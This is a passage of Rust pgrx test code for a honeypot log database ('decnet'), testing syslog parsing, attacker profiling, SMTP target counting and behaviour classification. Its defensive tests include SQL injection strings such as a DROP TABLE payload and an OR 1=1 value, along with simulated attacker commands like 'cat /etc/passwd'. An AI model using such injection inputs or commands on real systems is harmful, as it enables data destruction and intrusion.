// #[pg_test]s: SQL signatures, STRICT/NULL behaviour, SQLSTATEs, and the ingest
// trigger's effect on real rows of decnet.logs (created from the real migration).
use pgrx::prelude::*;

/// The migrations, in order.
const MIGRATIONS: &[(&str, &str)] = &[
    ("V1", include_str!("../migrations/V1__logs.sql")),
    ("V2", include_str!("../migrations/V2__attackers.sql")),
    ("V3", include_str!("../migrations/V3__smtp_targets_and_roles.sql")),
    ("V4", include_str!("../migrations/V4__behavior_rollup.sql")),
    ("V5", include_str!("../migrations/V5__session_profiles.sql")),
    ("V6", include_str!("../migrations/V6__os_signatures.sql")),
    ("V7", include_str!("../migrations/V7__enrichment.sql")),
    ("V8", include_str!("../migrations/V8__reverse_dns.sql")),
    ("V9", include_str!("../migrations/V9__identities.sql")),
    ("V10", include_str!("../migrations/V10__partitioned_logs.sql")),
    ("V11", include_str!("../migrations/V11__cheaper_ingest_indexes.sql")),
    ("V12", include_str!("../migrations/V12__fingerprints_once_per_attacker.sql")),
    ("V13", include_str!("../migrations/V13__hostile_input_and_privileges.sql")),
    ("V14", include_str!("../migrations/V14__merge_small_statements_at_commit.sql")),
    ("V15", include_str!("../migrations/V15__ingest_positions.sql")),
    ("V16", include_str!("../migrations/V16__merge_queue.sql")),
    ("V17", include_str!("../migrations/V17__service_families.sql")),
    ("V18", include_str!("../migrations/V18__identity_links.sql")),
    ("V19", include_str!("../migrations/V19__column_comments.sql")),
    ("V20", include_str!("../migrations/V20__alerts.sql")),
    ("V21", include_str!("../migrations/V21__live_definitions.sql")),
];

/// The live definitions (views), applied after the migrations.
const LIVE_DEFINITIONS: &[(&str, &str)] = include!("../migrations/live/files.rs");

/// Applies every migration and then the live definitions, as `decnet migrate` does.
fn migrate() {
    migrate_up_to(MIGRATIONS.len());
    for (file, sql) in LIVE_DEFINITIONS {
        Spi::run(sql).unwrap_or_else(|e| panic!("live definition {file} applies: {e}"));
    }
}

/// Applies the first `n` migrations.
fn migrate_up_to(n: usize) {
    // One test at a time past this point: the tests' migrations create the same
    // names in the shared decnet schema, and V10 renames and recreates decnet.logs,
    // which deadlocks against another test doing the same.
    Spi::run("SELECT pg_advisory_xact_lock(20261123)").unwrap();
    for (name, sql) in &MIGRATIONS[..n] {
        Spi::run(sql).unwrap_or_else(|e| panic!("{name} migration applies: {e}"));
    }
    // Each #[pg_test] is one transaction that reads what it inserted: small
    // statements merge at their end, not at a commit that never comes (V14).
    if n >= 14 {
        Spi::run("SET CONSTRAINTS ALL IMMEDIATE").unwrap();
    }
}

fn one<T: IntoDatum + FromDatum>(sql: &str) -> Option<T> {
    Spi::get_one::<T>(sql).expect(sql)
}

#[pg_test]
fn parse_log_reads_an_a8_line() {
    let row = Spi::get_three::<String, String, String>(
        r#"SELECT decky, event_type, host(attacker_ip) FROM decnet.parse_log('<132>1 2026-05-01T03:31:40.220981+00:00 mail-relay-01 smtp - rcpt_denied [relay@55555 src="91.92.240.7" value="<Bob@ACME.com>"]')"#,
    )
    .unwrap();
    assert_eq!(row, (Some("mail-relay-01".into()), Some("rcpt_denied".into()), Some("91.92.240.7".into())));
    assert_eq!(
        one::<String>(r#"SELECT fields->>'value' FROM decnet.parse_log('<132>1 2026-05-01T03:31:40+00:00 m smtp - rcpt_denied [relay@55555 src="1.1.1.1" value="<Bob@ACME.com>"]')"#),
        Some("<Bob@ACME.com>".into())
    );
    assert_eq!(
        one::<bool>("SELECT ts = '2026-05-01 08:00:00+00' FROM decnet.parse_log('<134>1 2026-05-01T10:00:00+02:00 d s - e -')"),
        Some(true)
    );
}

#[pg_test]
fn parse_log_is_strict_and_flags_garbage() {
    assert_eq!(one::<i64>("SELECT count(*) FROM decnet.parse_log(NULL)"), Some(0));
    let row = Spi::get_two::<String, String>("SELECT parse_status, parse_reason FROM decnet.parse_log('this is not a syslog line')").unwrap();
    assert_eq!(row, (Some("unparsed".into()), Some("not_syslog".into())));
    assert_eq!(one::<String>("SELECT fields::text FROM decnet.parse_log('')"), Some("{}".into()));
}

#[pg_test]
fn functions_are_immutable_strict_parallel_safe() {
    let n = one::<i64>(
        "SELECT count(*) FROM pg_proc WHERE pronamespace = 'decnet'::regnamespace
           AND proname IN ('parse_log','classify_event_kind','bucket_services','is_sensor_service','is_infrastructure_decky','payload_key','seq_class','initial_ttl','hop_distance','timing_stats')
           AND provolatile = 'i' AND proisstrict AND proparallel = 's'",
    );
    assert_eq!(n, Some(10));
    // every SECURITY DEFINER function pins search_path
    let unpinned = one::<i64>(
        "SELECT count(*) FROM pg_proc WHERE pronamespace = 'decnet'::regnamespace AND prosecdef
           AND NOT coalesce(proconfig, '{}') @> ARRAY['search_path=pg_catalog, pg_temp']",
    );
    assert_eq!(unpinned, Some(0));
    let undocumented = one::<i64>(
        "SELECT count(*) FROM pg_proc WHERE pronamespace = 'decnet'::regnamespace
           AND obj_description(oid, 'pg_proc') IS NULL",
    );
    assert_eq!(undocumented, Some(0));
}

#[pg_test]
fn classify_event_kind_sql() {
    assert_eq!(one::<String>("SELECT decnet.classify_event_kind('rcpt_to')"), Some("interaction".into()));
    assert_eq!(one::<String>("SELECT decnet.classify_event_kind('startup')"), Some("noise".into()));
    assert_eq!(one::<String>("SELECT decnet.classify_event_kind('-')"), Some("scan".into()));
    assert_eq!(one::<String>("SELECT decnet.classify_event_kind('')"), Some("scan".into()));
    assert_eq!(one::<String>("SELECT decnet.classify_event_kind(NULL)"), None);
}

#[pg_test]
fn bucket_services_sql() {
    let row = Spi::get_two::<Vec<String>, Vec<String>>(
        "SELECT interacted, scanned FROM decnet.bucket_services(
            ARRAY['http','http','ssh','ssh','ssh','ftp','mongo','bus'],
            ARRAY['connection','get_request','connection','auth_attempt','shell_input','retr','connection','startup'])",
    )
    .unwrap();
    assert_eq!(row, (Some(vec!["ftp".into(), "ssh".into()]), Some(vec!["http".into(), "mongo".into()])));
}

#[pg_test(error = "services has 2 elements but event_types has 1")]
fn bucket_services_rejects_ragged_arrays() {
    Spi::run("SELECT * FROM decnet.bucket_services(ARRAY['a','b'], ARRAY['x'])").unwrap();
}

#[pg_test]
fn trigger_parses_every_inserted_line() {
    migrate();
    Spi::run(
        r#"INSERT INTO decnet.logs (raw_line, ts, decky) VALUES
          ('<134>1 2026-05-01T00:00:00+00:00 decky-01 http - request [relay@55555 path="/a\]b" remote_addr="[2001:db8::1]:443"]', '1999-01-01', 'spoofed'),
          ('garbage', NULL, NULL),
          ('<14>1 2026-05-02T06:22:48.089309+00:00 omega-decky 1 - - -  2026-05-02T06:22:48.089286+00:00 SRV-DELTA-77 bash - command [timeQuality tzKnown="1"] CMD uid=0 user=root src=192.168.1.5 pwd=/root cmd=ls /var/www/html', NULL, NULL)"#,
    )
    .unwrap();
    assert_eq!(one::<i64>("SELECT count(*) FROM decnet.logs"), Some(3));
    // parsed values overwrite what the inserter supplied
    let r = Spi::get_three::<String, String, String>(
        "SELECT decky, fields->>'path', host(attacker_ip) FROM decnet.logs WHERE service = 'http'",
    )
    .unwrap();
    assert_eq!(r, (Some("decky-01".into()), Some("/a]b".into()), Some("2001:db8::1".into())));
    assert_eq!(one::<bool>("SELECT ts = '2026-05-01 00:00:00+00' FROM decnet.logs WHERE service = 'http'"), Some(true));
    assert_eq!(one::<String>("SELECT fields->>'remote_port' FROM decnet.logs WHERE service = 'http'"), Some("443".into()));
    let bad = Spi::get_two::<String, String>("SELECT parse_status, parse_reason FROM decnet.logs WHERE raw_line = 'garbage'").unwrap();
    assert_eq!(bad, (Some("unparsed".into()), Some("not_syslog".into())));
    let cmd = Spi::get_two::<String, String>("SELECT decky, fields->>'command' FROM decnet.logs WHERE event_type = 'command'").unwrap();
    assert_eq!(cmd, (Some("SRV-DELTA-77".into()), Some("ls /var/www/html".into())));
    // the trigger and parse_log agree column for column
    assert_eq!(
        one::<i64>(
            "SELECT count(*) FROM decnet.logs l, decnet.parse_log(l.raw_line) p
             WHERE (l.parse_status, l.parse_reason, l.ts, l.decky, l.service, l.event_type, l.attacker_ip, l.fields, l.msg)
                   IS NOT DISTINCT FROM (p.parse_status, p.parse_reason, p.ts, p.decky, p.service, p.event_type, p.attacker_ip, p.fields, p.msg)"
        ),
        Some(3)
    );
}

#[pg_test(error = "decnet.logs is append-only")]
fn logs_reject_updates() {
    migrate();
    Spi::run("INSERT INTO decnet.logs (raw_line) VALUES ('x')").unwrap();
    Spi::run("UPDATE decnet.logs SET raw_line = 'y'").unwrap();
}

#[pg_test]
fn trigger_flags_lossy_lines() {
    migrate();
    // raw_line is the loader's lossy text of raw_bytes (an invalid byte becomes U+FFFD)
    Spi::run(r#"INSERT INTO decnet.logs (raw_line, raw_bytes) VALUES (E'<134>1 2026-05-01T00:00:00+00:00 d ssh - connection [relay@55555 src_ip="1.2.3.4"] \uFFFD', convert_to('<134>1 2026-05-01T00:00:00+00:00 d ssh - connection [relay@55555 src_ip="1.2.3.4"] ', 'UTF8') || '\xff'::bytea)"#).unwrap();
    let r = Spi::get_three::<String, String, String>("SELECT parse_status, parse_reason, host(attacker_ip) FROM decnet.logs").unwrap();
    assert_eq!(r, (Some("partial".into()), Some("lossy_text".into()), Some("1.2.3.4".into())));
    // bytes whose text is not raw_line: the bytes win, the line says so
    Spi::run(r#"INSERT INTO decnet.logs (raw_line, raw_bytes) VALUES ('innocent', '\x3c3133343e00ff'::bytea)"#).unwrap();
    let r = Spi::get_two::<String, String>("SELECT raw_line, parse_reason FROM decnet.logs WHERE raw_line <> '' ORDER BY id DESC LIMIT 1").unwrap();
    assert_eq!(r, (Some("<134>\u{fffd}\u{fffd}".into()), Some("not_syslog,lossy_text,raw_mismatch".into())));
}

#[pg_test]
fn service_buckets_view() {
    migrate();
    Spi::run(
        r#"INSERT INTO decnet.logs (raw_line) VALUES
          ('<134>1 2026-05-01T00:00:00+00:00 d1 ssh - connection [relay@55555 src_ip="1.1.1.1"]'),
          ('<134>1 2026-05-01T00:00:01+00:00 d1 ssh - command [relay@55555 src_ip="1.1.1.1" command="id"]'),
          ('<134>1 2026-05-01T00:00:02+00:00 d1 http - request [relay@55555 remote_addr="1.1.1.1:5555"]'),
          ('<134>1 2026-05-01T00:00:03+00:00 d1 postgres - startup [relay@55555 src="1.1.1.1"]'),
          ('<134>1 2026-05-01T00:00:04+00:00 d2 ftp - connection [relay@55555 src_ip="2.2.2.2"]')"#,
    )
    .unwrap();
    let r = Spi::get_two::<Vec<String>, Vec<String>>(
        "SELECT interacted, scanned FROM decnet.service_buckets WHERE attacker_ip = '1.1.1.1'",
    )
    .unwrap();
    // host:port is the same attacker; postgres startup is noise and dropped
    assert_eq!(r, (Some(vec!["ssh".into()]), Some(vec!["http".into()])));
    assert_eq!(one::<i64>("SELECT count(*) FROM decnet.service_buckets"), Some(2));
}

const PROFILE_LINES: &str = r#"INSERT INTO decnet.logs (raw_line) VALUES
  ('<134>1 2026-05-01T00:00:01+00:00 decky-01 ssh - connection [relay@55555 src_ip="1.1.1.1" src_port="5000"]'),
  ('<134>1 2026-05-01T00:00:05+00:00 decky-02 http - request [relay@55555 method="GET" path="/" remote_addr="1.1.1.1:5555" headers="{\"User-Agent\": \"curl/8.0\"}"]'),
  ('<134>1 2026-05-01T00:00:02+00:00 decky-02 sniffer - tcp_syn_fingerprint [relay@55555 src_ip="1.1.1.1" ttl="52"]'),
  ('<134>1 2026-05-01T00:00:09+00:00 decnet-prober prober - hassh_fingerprint [relay@55555 target_ip="1.1.1.1" target_port="22" hassh_server_hash="abc"]'),
  ('<134>1 2026-05-01T00:00:03+00:00 decky-01 auth-helper - auth_attempt [relay@55555 username="root" secret_printable="hunter2" secret_b64="aHVudGVyMg==" src_ip="1.1.1.1"]'),
  ('<134>1 2026-05-01T00:00:04+00:00 decky-01 ssh - command [relay@55555 src_ip="1.1.1.1" command="uname -a"]')"#;

#[pg_test]
fn derive_builds_an_attacker_profile() {
    migrate();
    Spi::run(PROFILE_LINES).unwrap();
    assert_eq!(one::<i64>("SELECT count(*) FROM decnet.attackers"), Some(1));
    let r = Spi::get_three::<i64, Vec<String>, Vec<String>>("SELECT event_count, services, deckies FROM decnet.attackers").unwrap();
    // sniffer/prober are not services; auth-helper is ssh's (#55); decnet-prober is not a decky; host:port is the same attacker
    assert_eq!(r, (Some(6), Some(vec!["http".into(), "ssh".into()]), Some(vec!["decky-01".into(), "decky-02".into()])));
    assert_eq!(one::<i64>("SELECT count(*) FROM decnet.attacker_services"), Some(3), "one row per program: auth-helper, http, ssh");
    let t = Spi::get_three::<String, bool, i32>("SELECT traversal_path, is_traversal, decky_count FROM decnet.attackers").unwrap();
    assert_eq!(t, (Some("decky-01 → decky-02".into()), Some(true), Some(2)));
    let c = Spi::get_three::<i64, i64, i64>("SELECT credential_count, command_count, bounty_count FROM decnet.attackers").unwrap();
    // bounties: hassh_server, http_useragent, http_quirks
    assert_eq!(c, (Some(1), Some(1), Some(3)));
    assert_eq!(one::<String>("SELECT commands->0->>'command' FROM decnet.attackers"), Some("uname -a".into()));
    assert_eq!(one::<i64>("SELECT jsonb_array_length(fingerprints) FROM decnet.attackers"), Some(3));
    assert_eq!(one::<bool>("SELECT first_seen = '2026-05-01 00:00:01+00' AND last_seen = '2026-05-01 00:00:09+00' FROM decnet.attackers"), Some(true));
    assert_eq!(one::<bool>("SELECT c.attacker_uuid = a.uuid FROM decnet.credentials c, decnet.attackers a"), Some(true));
    assert_eq!(one::<String>("SELECT bucket FROM decnet.attacker_services WHERE service = 'ssh'"), Some("interacted".into()));
    assert_eq!(one::<i64>("SELECT count(*) FROM decnet.verify()"), Some(0));
}

#[pg_test]
fn derive_merges_statements_and_rebuild_agrees() {
    migrate();
    // the same lines in three statements, out of time order, with a duplicate credential
    for chunk in PROFILE_LINES.trim_start_matches("INSERT INTO decnet.logs (raw_line) VALUES").split("),\n").collect::<Vec<_>>().chunks(2).rev() {
        let values = chunk.iter().map(|v| format!("{})", v.trim().trim_end_matches(')'))).collect::<Vec<_>>().join(",");
        Spi::run(&format!("INSERT INTO decnet.logs (raw_line) VALUES {values}")).unwrap();
    }
    Spi::run(PROFILE_LINES).unwrap();
    assert_eq!(one::<i64>("SELECT event_count FROM decnet.attackers"), Some(12));
    assert_eq!(one::<i64>("SELECT attempt_count FROM decnet.credentials"), Some(2));
    assert_eq!(one::<i64>("SELECT credential_count FROM decnet.attackers"), Some(1));
    assert_eq!(one::<i64>("SELECT count(*) FROM decnet.verify()"), Some(0));
    let uuid = one::<pgrx::Uuid>("SELECT uuid FROM decnet.attackers").unwrap();
    // a corrupted counter shows up in verify() and rebuild() repairs it, keeping the uuid
    Spi::run("ALTER TABLE decnet.attackers DISABLE TRIGGER ALL; UPDATE decnet.attackers SET event_count = 1").unwrap();
    assert_eq!(one::<String>("SELECT relation FROM decnet.verify()"), Some("attackers".into()));
    Spi::run("SELECT * FROM decnet.rebuild()").unwrap();
    assert_eq!(one::<i64>("SELECT count(*) FROM decnet.verify()"), Some(0));
    assert_eq!(one::<pgrx::Uuid>("SELECT uuid FROM decnet.attackers"), Some(uuid));
}

// decnet-cases.md §3.2 (_first_contact_deckies, _extract_commands_from_events, _build_record)
fn line(ts: &str, decky: &str, service: &str, event: &str, extra: &str) -> String {
    format!(r#"('<134>1 2026-04-04T{ts}:00+00:00 {decky} {service} - {event} [relay@55555 src_ip="5.5.5.5"{extra}]')"#)
}

#[pg_test]
fn cases_3_2_first_contact_deckies() {
    migrate();
    // decky-02 at T2 is stored before decky-01 at T1: first contact follows time, not arrival
    Spi::run(&format!("INSERT INTO decnet.logs (raw_line) VALUES {}", line("10:05", "decky-02", "ssh", "connection", ""))).unwrap();
    Spi::run(&format!("INSERT INTO decnet.logs (raw_line) VALUES {}, {}", line("10:00", "decky-01", "ssh", "connection", ""), line("10:10", "decky-01", "http", "request", ""))).unwrap();
    let r = Spi::get_two::<Vec<String>, String>("SELECT deckies, traversal_path FROM decnet.attackers").unwrap();
    assert_eq!(r, (Some(vec!["decky-01".into(), "decky-02".into()]), Some("decky-01 → decky-02".into())));
}

#[pg_test]
fn cases_3_2_build_record_single_decky() {
    migrate();
    Spi::run(&format!("INSERT INTO decnet.logs (raw_line) VALUES {}, {}", line("10:00", "decky-01", "ssh", "connection", ""), line("10:05", "decky-01", "http", "request", ""))).unwrap();
    let r = Spi::get_three::<i64, i32, i32>("SELECT event_count, service_count, decky_count FROM decnet.attackers").unwrap();
    assert_eq!(r, (Some(2), Some(2), Some(1)));
    let t = Spi::get_two::<bool, String>("SELECT is_traversal, traversal_path FROM decnet.attackers").unwrap();
    assert_eq!(t, (Some(false), None));
    assert_eq!(one::<Vec<String>>("SELECT services FROM decnet.attackers"), Some(vec!["http".into(), "ssh".into()]));
}

#[pg_test]
fn cases_3_2_command_extraction() {
    let cmd = |event: &str, fields: &str| one::<String>(&format!("SELECT decnet.command_text('{event}', '{fields}'::jsonb)"));
    assert_eq!(cmd("command", r#"{"command": "id"}"#), Some("id".into()));
    assert_eq!(cmd("query", r#"{"query": "SELECT * FROM users"}"#), Some("SELECT * FROM users".into()));
    assert_eq!(cmd("input", r#"{"input": "ls -la"}"#), Some("ls -la".into()));
    assert_eq!(cmd("connection", r#"{"command": "id"}"#), None);
    assert_eq!(cmd("command", r#"{"other": "stuff"}"#), None);
    assert_eq!(cmd("command", r#"{"command": "", "cmd": "LOGIN"}"#), Some("LOGIN".into()));
    // every command event type is an interaction (spec D.3)
    assert_eq!(
        one::<i64>("SELECT count(*) FROM unnest(ARRAY['command','exec','query','input','shell_input','execute','run','sql_query','redis_command']) t
                    WHERE decnet.classify_event_kind(t) <> 'interaction'"),
        Some(0)
    );
    migrate();
    Spi::run(&format!("INSERT INTO decnet.logs (raw_line) VALUES {}, {}", line("10:00", "decky-01", "ssh", "command", r#" command="id""#), line("10:01", "decky-01", "ssh", "command", r#" command="uname -a""#))).unwrap();
    let c = one::<pgrx::JsonB>("SELECT commands FROM decnet.attackers").unwrap().0;
    assert_eq!(c[0]["command"], "id");
    assert_eq!((c[0]["service"].as_str(), c[0]["decky"].as_str()), (Some("ssh"), Some("decky-01")));
    // UTC whatever the session's TimeZone, so stored and recomputed values agree
    assert_eq!(c[0]["timestamp"], "2026-04-04T10:00:00.000000Z");
    assert_eq!(c[1]["command"], "uname -a");
}

// The per-statement delta must never leak rows of a failed statement into the next one.
#[pg_test]
fn failed_statement_in_a_subtransaction_leaves_no_trace() {
    migrate();
    // the second row violates NOT NULL after the first was already added to the delta
    Spi::run(
        r#"DO $$ BEGIN
             INSERT INTO decnet.logs (raw_line) VALUES
               ('<134>1 2026-05-01T00:00:01+00:00 decky-01 ssh - connection [relay@55555 src_ip="9.9.9.9"]'), (NULL);
           EXCEPTION WHEN not_null_violation THEN NULL;
           END $$"#,
    )
    .unwrap();
    Spi::run(r#"INSERT INTO decnet.logs (raw_line) VALUES ('<134>1 2026-05-01T00:00:02+00:00 decky-02 ssh - connection [relay@55555 src_ip="8.8.8.8"]')"#).unwrap();
    assert_eq!(one::<i64>("SELECT count(*) FROM decnet.logs"), Some(1));
    assert_eq!(one::<String>("SELECT string_agg(host(ip), ',') FROM decnet.attackers"), Some("8.8.8.8".into()));
    assert_eq!(one::<i64>("SELECT count(*) FROM decnet.verify()"), Some(0));
}

#[pg_test]
fn nested_inserts_keep_their_own_deltas() {
    migrate();
    // a function that inserts a line itself, called for every row of an outer INSERT
    Spi::run(
        r#"CREATE FUNCTION pg_temp.side_insert(line text) RETURNS text LANGUAGE plpgsql AS $$
           BEGIN
             INSERT INTO decnet.logs (raw_line)
             VALUES ('<134>1 2026-05-01T00:00:09+00:00 decky-09 ftp - connection [relay@55555 src_ip="7.7.7.7"]');
             RETURN line;
           END $$"#,
    )
    .unwrap();
    Spi::run(
        r#"INSERT INTO decnet.logs (raw_line)
           SELECT pg_temp.side_insert(format('<134>1 2026-05-01T00:00:0%s+00:00 decky-01 ssh - connection [relay@55555 src_ip="6.6.6.%s"]', i, i))
           FROM generate_series(1, 3) i"#,
    )
    .unwrap();
    assert_eq!(one::<i64>("SELECT count(*) FROM decnet.logs"), Some(6));
    assert_eq!(one::<i64>("SELECT event_count FROM decnet.attackers WHERE ip = '7.7.7.7'"), Some(3));
    assert_eq!(one::<i64>("SELECT sum(event_count)::bigint FROM decnet.attackers"), Some(6));
    assert_eq!(one::<i64>("SELECT count(*) FROM decnet.verify()"), Some(0));
}

// decnet-cases.md §3.6 and the recipient-count rule (docs/corrections.md)
#[pg_test]
fn smtp_targets_count_recipients_not_messages() {
    migrate();
    let ev = |evt: &str, sd: &str| format!(r#"('<134>1 2026-05-01T00:00:01+00:00 mail-relay-01 smtp_relay - {evt} [relay@55555 src="1.2.3.4" {sd}]')"#);
    Spi::run(&format!(
        "INSERT INTO decnet.logs (raw_line) VALUES {}, {}, {}, {}, {}",
        ev("mail_from", r#"value="<spam@evil.com>""#),
        ev("rcpt_to", r#"value="<bob@target.com>""#),
        ev("rcpt_to", r#"value="<alice@other.com>""#),
        ev("message_accepted", r#"mail_from="<spam@evil.com>" rcpt_to="<bob@target.com>,<alice@other.com>""#),
        ev("rcpt_denied", r#"value="<Carol@TARGET.com>""#),
    ))
    .unwrap();
    assert_eq!(one::<String>("SELECT string_agg(domain || '=' || count, ',' ORDER BY domain) FROM decnet.smtp_targets"), Some("other.com=1,target.com=2".into()));
    // an ssh rcpt_to never counts; local parts are stored nowhere derived
    Spi::run(r#"INSERT INTO decnet.logs (raw_line) VALUES ('<134>1 2026-05-01T00:00:02+00:00 d ssh - rcpt_to [relay@55555 src_ip="1.2.3.4" value="<x@wrong.com>"]')"#).unwrap();
    assert_eq!(one::<i64>("SELECT count(*) FROM decnet.smtp_targets WHERE domain = 'wrong.com'"), Some(0));
    assert_eq!(one::<i64>("SELECT count(*) FROM decnet.smtp_targets WHERE domain ~ '[@<>]'"), Some(0));
    let seen = Spi::get_three::<bool, i64, bool>("SELECT seen, count, first_seen IS NOT NULL FROM decnet.smtp_target_seen('TARGET.com')").unwrap();
    assert_eq!(seen, (Some(true), Some(2), Some(true)));
    let seen = Spi::get_three::<bool, i64, bool>("SELECT seen, count, first_seen IS NULL FROM decnet.smtp_target_seen('<x@target.com>')").unwrap();
    assert_eq!(seen, (Some(true), Some(2), Some(false)));
    let unknown = Spi::get_three::<bool, i64, bool>("SELECT seen, count, first_seen IS NULL AND last_seen IS NULL FROM decnet.smtp_target_seen('never-targeted.org')").unwrap();
    assert_eq!(unknown, (Some(false), Some(0), Some(true)));
    for hostile in ["NULL", "''", "repeat('a', 10240)", "$$'; DROP TABLE decnet.smtp_targets; --$$", "'target.com'' OR 1=1 --'"] {
        let r = Spi::get_two::<bool, i64>(&format!("SELECT seen, count FROM decnet.smtp_target_seen({hostile})")).unwrap();
        assert_eq!(r, (Some(false), Some(0)), "{hostile}");
    }
    assert_eq!(one::<i64>("SELECT count(*) FROM decnet.smtp_targets"), Some(2));
    assert_eq!(one::<i64>("SELECT count(*) FROM decnet.verify()"), Some(0));
}

// decnet-cases.md §7.1-7.2 through SQL
#[pg_test]
fn keystroke_simhash_sql() {
    let phrase = "ls -la /etc; cat /etc/passwd; whoami; uname -a; netstat -tlnp\r";
    let shard: String = std::iter::once("{\"sid\":\"s1\",\"hdr\":{\"version\":2}}\n".to_string())
        .chain(phrase.chars().enumerate().map(|(i, c)| {
            format!("{{\"sid\":\"s1\",\"t\":{:.6},\"ch\":\"i\",\"d\":{}}}\n", i as f64 * 0.12, serde_json::to_string(&c.to_string()).unwrap())
        }))
        .chain(std::iter::once("garbage line\n".to_string()))
        .collect();
    let hex = Spi::get_one_with_args::<String>("SELECT encode(decnet.kd_simhash($1), 'hex')", &[shard.as_str().into()]).unwrap();
    assert_eq!(hex, Some("73d5f08d818991dc".into()));
    assert_eq!(Spi::get_one_with_args::<String>("SELECT encode(decnet.kd_simhash($1, 'other-sid'), 'hex')", &[shard.as_str().into()]).unwrap(), None);
    assert_eq!(one::<i32>("SELECT decnet.kd_hamming('\\x0f9c0f892402ce45', '\\x0f9c0f892402ce44')"), Some(1));
    assert_eq!(one::<String>("SELECT encode(decnet.kd_centroid(h), 'hex') FROM (VALUES ('\\x0000000000000006'::bytea), ('\\x0000000000000003'), ('\\x0000000000000002'), (NULL)) v(h)"), Some("0000000000000002".into()));
    assert_eq!(one::<String>("SELECT encode(decnet.kd_centroid(h), 'hex') FROM (SELECT NULL::bytea WHERE false) v(h)"), None);
}

#[pg_test(error = "the first argument must be an 8-byte keystroke SimHash, got 2 bytes")]
fn kd_hamming_rejects_wrong_lengths() {
    Spi::run("SELECT decnet.kd_hamming('\\x0102', '\\x0102030405060708')").unwrap();
}

// decnet-cases.md §6.1 / §3.1 through SQL
#[pg_test]
fn behaviour_primitives_sql() {
    assert_eq!(one::<String>("SELECT decnet.seq_class(ARRAY[100,101,102,103,104]::bigint[])"), Some("incremental".into()));
    assert_eq!(one::<String>("SELECT decnet.seq_class(ARRAY[10,20,30]::bigint[])"), Some("unknown".into()));
    assert_eq!(one::<i32>("SELECT decnet.initial_ttl(52)"), Some(64));
    assert_eq!(one::<i32>("SELECT decnet.hop_distance(119)"), Some(9));
    let stats = one::<pgrx::JsonB>(
        "SELECT decnet.timing_stats(array_agg('2026-05-01 00:00:00+00'::timestamptz + make_interval(secs => i * 0.5))) FROM generate_series(0, 7) i",
    )
    .unwrap()
    .0;
    assert_eq!((stats["event_count"].as_u64(), stats["mean_iat_s"].as_f64(), stats["cv"].as_f64()), (Some(8), Some(0.5), Some(0.0)));
    assert_eq!(
        one::<String>("SELECT decnet.behavior_class((s->>'event_count')::bigint, (s->>'mean_iat_s')::float8, (s->>'cv')::float8, 1) FROM (SELECT decnet.timing_stats(array_agg('2026-05-01'::timestamptz + make_interval(secs => i * 0.5))) s FROM generate_series(0, 7) i) x"),
        Some("brute_force".into())
    );
    assert_eq!(one::<String>("SELECT decnet.behavior_class(2, NULL, NULL, 1)"), Some("unknown".into()));
    assert_eq!(one::<Vec<String>>("SELECT decnet.cadence_tools(60.0, 0.25)"), Some(vec!["cobalt_strike".into(), "sliver".into()]));
}

// Deferred behaviour (issue 5): the trigger marks attackers dirty, rollup() drains them.
#[pg_test]
fn rollup_classifies_dirty_attackers() {
    migrate();
    // a brute-forcer: auth attempts every 0.5 s on one service, its SYNs also seen by the sniffer
    let mut values = Vec::new();
    for i in 0..10 {
        values.push(format!(r#"('<134>1 2026-05-01T00:00:{:02}.{:06}+00:00 decky-01 auth-helper - auth_attempt [relay@55555 username="root" src_ip="4.4.4.4"]')"#, i / 2, (i % 2) * 500_000));
        values.push(format!(r#"('<134>1 2026-05-01T00:00:{:02}.{:06}+00:00 decky-01 sniffer - tcp_syn_fingerprint [relay@55555 src_ip="4.4.4.4" ttl="52" initial_ttl="64" hop_distance="12" window="64240" os_guess="linux"]')"#, i / 2, (i % 2) * 500_000 + 1));
    }
    // a beacon: every 60 s with +-3 s jitter (10 intervals: mean 60, cv 0.05)
    let mut t = 0.0f64;
    for i in 0..11 {
        if i > 0 { t += if i % 2 == 1 { 63.0 } else { 57.0 }; }
        values.push(format!(r#"('<134>1 2026-05-01T01:{:02}:{:02}+00:00 decky-02 dns - query [relay@55555 src_ip="5.5.5.5" qname="x.example.org"]')"#, (t as i64) / 60, (t as i64) % 60));
    }
    Spi::run(&format!("INSERT INTO decnet.logs (raw_line) VALUES {}", values.join(","))).unwrap();
    assert_eq!(one::<i64>("SELECT count(*) FROM decnet.dirty_attackers"), Some(2));
    let r = Spi::get_three::<i32, i64, i64>("SELECT attackers, events, remaining FROM decnet.rollup()").unwrap();
    // 10 auth attempts + 10 beacons; the 10 sniffer SYNs are not the attacker's own events
    assert_eq!(r, (Some(2), Some(21), Some(0)));
    // corrections: the sniffer is neither a second service nor a second event stream, so this
    // is brute force (DECNET: scanning, two services with mean < 2 s)
    assert_eq!(one::<String>("SELECT behavior_class FROM decnet.attacker_behavior WHERE attacker_ip = '4.4.4.4'"), Some("brute_force".into()));
    let b = Spi::get_three::<String, f64, f64>("SELECT behavior_class, beacon_interval_s, beacon_jitter_pct FROM decnet.attacker_behavior WHERE attacker_ip = '5.5.5.5'").unwrap();
    assert_eq!(b, (Some("beaconing".into()), Some(60.0), Some(5.0)));
    // nothing left: a second rollup does nothing
    assert_eq!(one::<i32>("SELECT attackers FROM decnet.rollup()"), Some(0));
    assert_eq!(one::<i64>("SELECT count(*) FROM decnet.rollup_runs"), Some(1));
    // new events mark the attacker dirty again
    Spi::run(r#"INSERT INTO decnet.logs (raw_line) VALUES ('<134>1 2026-05-01T02:00:00+00:00 decky-02 dns - query [relay@55555 src_ip="5.5.5.5" qname="y.example.org"]')"#).unwrap();
    assert_eq!(one::<i32>("SELECT attackers FROM decnet.rollup(10)"), Some(1));
    assert_eq!(one::<i64>("SELECT event_count FROM decnet.attacker_behavior WHERE attacker_ip = '5.5.5.5'"), Some(12));
    assert_eq!(one::<Vec<String>>("SELECT tool_guesses FROM decnet.attacker_behavior WHERE attacker_ip = '4.4.4.4'"), Some(vec![]));
    // the sniffer's lines feed the OS/TCP rollup even though they are not the attacker's own events
    let os = Spi::get_two::<String, i32>("SELECT os_guess, hop_distance FROM decnet.attacker_behavior WHERE attacker_ip = '4.4.4.4'").unwrap();
    assert_eq!(os, (Some("linux".into()), Some(12)));
    assert_eq!(one::<i64>("SELECT count(*) FROM decnet.attacker_behavior WHERE attacker_ip = '5.5.5.5' AND phase_sequence->>'exfil_start_ts' = '2026-05-01T01:00:00+00:00'
                                          AND phase_sequence->>'recon_end_ts' IS NULL AND kex_order_raw IS NULL"), Some(1)); // DNS queries count as exfil (spec K.17)
}

// ---- issue 8: rotations, IPv6 leaks, identities ----------------------------------

fn probe(ts: &str, ip: &str, port: u16, kind: &str, hash: &str) -> String {
    let (event, field) = match kind {
